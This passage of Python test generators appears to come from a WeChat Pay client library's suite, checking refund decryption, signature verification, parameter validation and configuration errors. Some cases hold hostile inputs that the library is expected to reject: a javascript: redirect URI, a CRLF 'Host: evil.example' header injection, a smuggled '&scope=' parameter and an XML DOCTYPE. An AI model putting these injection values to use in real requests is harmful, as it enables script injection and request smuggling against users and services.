    opening = lambda name, secret, key, **end: _case(kind, name, "v2.open_refund", params={"req_info": secret, "key": key}, **end)
    yield opening("the encrypted part opens", good, KEY, gives={"params": REFUND})
    yield opening("the encrypted part with another key", good, EXAMPLE_KEY, fails=_error("Sealed", None, "never"))
    yield opening("an encrypted part that is not base64", "!!!!", KEY, fails=_input("req_info"))
    yield opening("an encrypted part cut short", odd, KEY, fails=_error("Sealed", None, "never"))
    yield opening("an encrypted part with a DOCTYPE", encrypted("<!DOCTYPE root>" + inner), KEY, fails=_error("Wire"))
    yield opening("an encrypted part that is empty", "", KEY, fails=_input("req_info"))
    yield _case(kind, "a refund notice of an order that is not known here", "notice.receive", engine=True, blob=notice(good),
                fails=_error("Missing", "out_trade_no"))


def answers():
    """What a caller's own HTTP client may bring (`http.complete`)."""
    kind = "outbound: answers"
    query = "POST /pay/orderquery"
    said = {"return_code": "SUCCESS", "result_code": "SUCCESS", "appid": APPID, "mch_id": MCHID, "nonce_str": "n",
            "out_trade_no": "HOSTILE-0001", "trade_state": "NOTPAY", "trade_state_desc": "订单未支付"}
    refused = {**without(said, "out_trade_no", "trade_state", "trade_state_desc"), "result_code": "FAIL", "err_code": "ORDERNOTEXIST", "err_code_des": "订单不存在"}

    def complete(name, blob=None, status=200, operation=query, **end):
        more = {} if blob is None else {"blob": blob}
        return _case(kind, name, "http.complete", engine=True, params={"operation": operation, "status": status}, **more, **end)

    yield complete("a signed answer", sealed(said), gives={"verified_by": "HMAC-SHA256", "fields": signed(said)})
    yield complete("a signed refusal", sealed(refused), fails=_error("Rejected", None, "never", code="ORDERNOTEXIST", authentic=True))
    yield complete("an answer without sign", xml(said), fails=_error("Forged", "sign", "same"))
    yield complete("an answer under another key", sealed(said, EXAMPLE_KEY), fails=_error("Forged", "sign", "same"))
    yield complete("an answer signed with MD5", sealed(said, algorithm="MD5"), fails=_error("Forged", "sign", "same"))
    yield complete("an answer about another merchant", sealed({**said, "mch_id": "1900000999"}), fails=_error("Mismatch", "mch_id", "same"))
    refund = "POST /secapi/pay/refund"
    yield complete("an answer without sign where money moves", xml(said), operation=refund, fails=_error("Forged", "sign", "query"))
    yield complete("a page with status 502 where money moves", "<html></html>", 502, operation=refund, fails={"kind": "Gateway", "advice": "query"})
    yield complete("a refusal without sign is nobody's word", xml(refused), fails=_error("Forged", "sign", "same", authentic=False))
    yield complete("an unsigned FAIL is a word, but no proof", xml({"return_code": "FAIL", "return_msg": "签名错误"}),
                   fails={"kind": "Rejected", "authentic": False})
    yield complete("a page in place of an answer", "<html><body>502</body></html>", fails={"kind": "Wire"})
    yield complete("a page with status 502", "<html><body>502</body></html>", 502, fails={"kind": "Gateway"})
    yield complete("no answer", "", fails={"kind": "Wire"})
    yield complete("no bytes at all", fails={"kind": "Wire"})
    yield complete("a redirect", "", 302, fails={"kind": "Wire"})
    yield complete("JSON in place of an answer", json.dumps(said), fails={"kind": "Wire"})
    yield complete("a status that is none", sealed(said), 70000, fails=_input("status"))
    yield complete("a status that is text", sealed(said), "200", fails=_input("status"))
    yield complete("an answer to an operation that is none", sealed(said), operation="orderquery", fails=_input("operation"))


def outgoing():
    """Parameters that would leave this machine."""
    kind = "outbound: parameters"
    link = {"appid": APPID, "redirect_uri": "https://shop.example/back"}
    for what, field, value in [
        ("scope that does not exist", "scope", "snsapi_all"), ("state with a blank", "state", "a b"), ("state that is too long", "state", "a" * 129),
        ("address that runs a script", "redirect_uri", "javascript:alert(1)"), ("address without a host", "redirect_uri", "https:///x"),
        ("app that would add a parameter", "appid", "wx1&scope=snsapi_userinfo"),
    ]:
        yield _case(kind, f"a link with a {what}", "openid.link", engine=True, params={**link, field: value}, fails=_input(field))
    yield _case(kind, "a link is escaped", "openid.link", engine=True, params={**link, "redirect_uri": "https://shop.example/a?b=c&d=茶#e"},
                gives={"link": "https://open.weixin.qq.com/connect/oauth2/authorize?appid=" + APPID +
                       "&redirect_uri=https%3A%2F%2Fshop.example%2Fa%3Fb%3Dc%26d%3D%E8%8C%B6%23e&response_type=code&scope=snsapi_base&state=#wechat_redirect"})
    exchange = {"kind": "mini_program", "appid": APPID, "code": "0123456789abcdef"}
    yield _case(kind, "a code with a line break", "openid.exchange", engine=True, params={**exchange, "code": "a\r\nHost: evil.example"}, fails=_input("code"))
    yield _case(kind, "a code of an app without a secret", "openid.exchange", engine=True, params={**exchange, "appid": "wx0000000000000000"},
                fails={"kind": "Config"})
    yield _case(kind, "a code of an unknown kind", "openid.exchange", engine=True, params={**exchange, "kind": "app"}, fails=_input("kind"))
    yield _case(kind, "a static code of a product that is too long", "scan.link", engine=True, params={"product_id": "1" * 33}, fails=_input("product_id"))
    for date in ["yesterday", "20260230", "2026-13-01", "2026-1-1", "2026-1-1  ", "2026- 1- 1", "20261120 ", "２０２６", ""]:
        yield _case(kind, f"a bill of the day {json.dumps(date)}", "bill.fetch", engine=True, params={"date": date}, fails=_input("date"))
    yield _case(kind, "a bill of an unknown kind", "bill.fetch", engine=True, params={"date": "20261120", "bill": "all"}, fails=_input("bill"))
    yield _case(kind, "a comparison with a bill that is none", "bill.compare", engine=True, params={"date": "20261120"}, blob="<html></html>", fails={"kind": "Wire"})
    yield _case(kind, "a comparison with a file that is not there", "bill.compare", engine=True,
                params={"date": "20261120", "path": "/nowhere/bill.csv"}, fails=_input("path"))


def nothing_there():
    kind = "meaning: nothing there"
    for verb in ["order.get", "order.query", "order.close", "order.reverse", "client.params", "scan.answer"]:
        yield _case(kind, f"{verb} of an order that nobody placed", verb, engine=True, params={"out_trade_no": "NOBODY-0001"},
                    fails=_error("Missing", "out_trade_no", "never"))
    for verb in ["refund.get", "refund.query"]:
        yield _case(kind, f"{verb} of a refund that nobody placed", verb, engine=True, params={"out_refund_no": "NOBODY-0001"},
                    fails=_error("Missing", "out_refund_no", "never"))
    for verb in ["redpack.get", "redpack.query", "transfer.get", "transfer.query"]:
        yield _case(kind, f"{verb} of what nobody placed", verb, engine=True, params={"number": "NOBODY0001"}, fails=_error("Missing", "number", "never"))
    yield _case(kind, "a refund of an order that nobody placed", "refund.place", engine=True,
                params={"out_trade_no": "NOBODY-0001", "out_refund_no": "NOBODY-0001-1", "amount": 1}, fails=_error("Missing", "out_trade_no", "never"))


# --- Configurations -------------------------------------------------------------------------------

def configuration():
    kind = "configuration"
    pem = lambda name: (IDENTITY / name).read_text()
    v2 = {"key": KEY}
    merchant = {"mchid": MCHID, "appids": [APPID], "notify_url": "https://shop.example/wechat/notice", "v2": v2}
    good = {"ledger": "memory:", "merchants": [merchant]}
    cert = "merchants[0].v2.client_cert"

    def opened(name: str, config, field: str | None = None) -> dict:
        case = {"name": name, "class": kind, "open": config}
        return case if field is None else {**case, "fails": _error("Config", field, "never")}

    top = lambda name, value: {**good, name: value}
    of = lambda name, value: {**good, "merchants": [{**merchant, name: value}]}
    account = lambda name, value: of("v2", {**v2, name: value})
    identity = lambda c, k: account("client_cert", {"cert": c, "key": k})
    yield opened("a good configuration", good)
    yield opened("a good configuration with a certificate", identity(pem("cert.pem"), pem("key.pem")))
    yield opened("a good configuration with a certificate and its chain", identity(pem("chain.pem"), pem("key.pem")))
    yield opened("an address for notices on this machine", of("notify_url", "http://127.0.0.1:8080/notice"))
    yield opened("nothing configured", {}, "ledger")
    for what, value in {"null": None, "empty": "", "another database": "mysql:x", "without a path": "sqlite:", "a number": 1}.items():
        yield opened(f"a ledger that is {what}", top("ledger", value), "ledger")
    for what, value in {"null": None, "empty": [], "an object": {}, "text": "x"}.items():
        yield opened(f"merchants that are {what}", top("merchants", value), "merchants")
    yield opened("a merchant that is a number", top("merchants", [7]), "merchants[0]")
    yield opened("the same merchant twice", top("merchants", [merchant, {**merchant, "v2": {"key": EXAMPLE_KEY}}]), "merchants[1].mchid")
    yield opened("a member that nobody knows", top("merchant", []), "merchant")
    yield opened("a member of a merchant that nobody knows", of("mch_id", "1"), "merchants[0].mch_id")
    for what, value in {"a number": 1900000109, "with a blank": "19000 00109", "in other digits": "１９００", "empty": "", "too long": "1" * 33}.items():
        yield opened(f"a merchant's number that is {what}", of("mchid", value), "merchants[0].mchid")
    for what, value in {"null": None, "empty": "", "short": "short", "too long by one": KEY + "0", "with a blank": KEY[:31] + " ",
                        "with a line break": KEY[:31] + "\n", "null as text": "null", "of 32 characters that are not ASCII": "密" * 32, "a number": 7}.items():
        yield opened(f"a key that is {what}", account("key", value), "merchants[0].v2.key")
    yield opened("no account", of("v2", None), "merchants[0].v2")
    yield opened("an algorithm that does not exist", account("sign_type", "SHA1"), "merchants[0].v2.sign_type")
    yield opened("an algorithm in small letters", account("sign_type", "hmac-sha256"), "merchants[0].v2.sign_type")
    for url in ["http://shop.example/n", "https://shop.example/n?a=1", "https://shop.example/n#a", "https://", "shop.example/n",
                "http://127.0.0.1.evil.example/n", "https://shop.example/回调", "https://shop.example/" + "a" * 256]:
        yield opened(f"notices to {url[:48]}", of("notify_url", url), "merchants[0].notify_url")
    yield opened("refund notices with a query", of("refund_notify_url", "https://shop.example/n?a=1"), "merchants[0].refund_notify_url")
    yield opened("apps that are text", of("appids", APPID), "merchants[0].appids")
    yield opened("apps that are empty", of("appids", [""]), "merchants[0].appids")
    yield opened("secrets that are a list", of("app_secrets", ["x"]), "merchants[0].app_secrets")
    yield opened("a partner that is text", of("partner", "no"), "merchants[0].partner")
    yield opened("a certificate of another key", identity(pem("cert.pem"), pem("other_key.pem")), f"{cert}.cert")
    yield opened("two keys in one file", identity(pem("cert.pem"), pem("key.pem") + pem("other_key.pem")), f"{cert}.key")
    yield opened("a key with a password", identity(pem("cert.pem"), pem("key_encrypted.pem")), f"{cert}.key")
    yield opened("a public key in place of the private one", identity(pem("cert.pem"), pem("public_key.pem")), f"{cert}.key")
    yield opened("a certificate in place of the key", identity(pem("cert.pem"), pem("cert.pem")), f"{cert}.key")
    yield opened("a key in place of the certificate", identity(pem("key.pem"), pem("key.pem")), f"{cert}.cert")
    yield opened("a certificate that is not PEM", identity("MIIB", pem("key.pem")), f"{cert}.cert")
    yield opened("a certificate without a key", account("client_cert", {"cert": pem("cert.pem")}), cert)
    yield opened("a certificate in a file that is not there", account("client_cert", {"cert_file": "/nowhere/a", "key_file": "/nowhere/b"}), f"{cert}.cert_file")
    yield opened("a PKCS#12 that is not base64", account("client_cert", {"p12": "!"}), f"{cert}.p12")
    for what, value in {"too short": 99, "too long": 120001, "a fraction": 500.5, "text": "5000"}.items():
        yield opened(f"a deadline that is {what}", top("deadline_ms", value), "deadline_ms")
    yield opened("failover that is text", top("failover", "yes"), "failover")
    yield opened("a gateway in the clear", top("gateway", "http://pay.example"), "gateway")
    yield opened("roots that are no certificate", top("roots", "no certificate"), "roots")
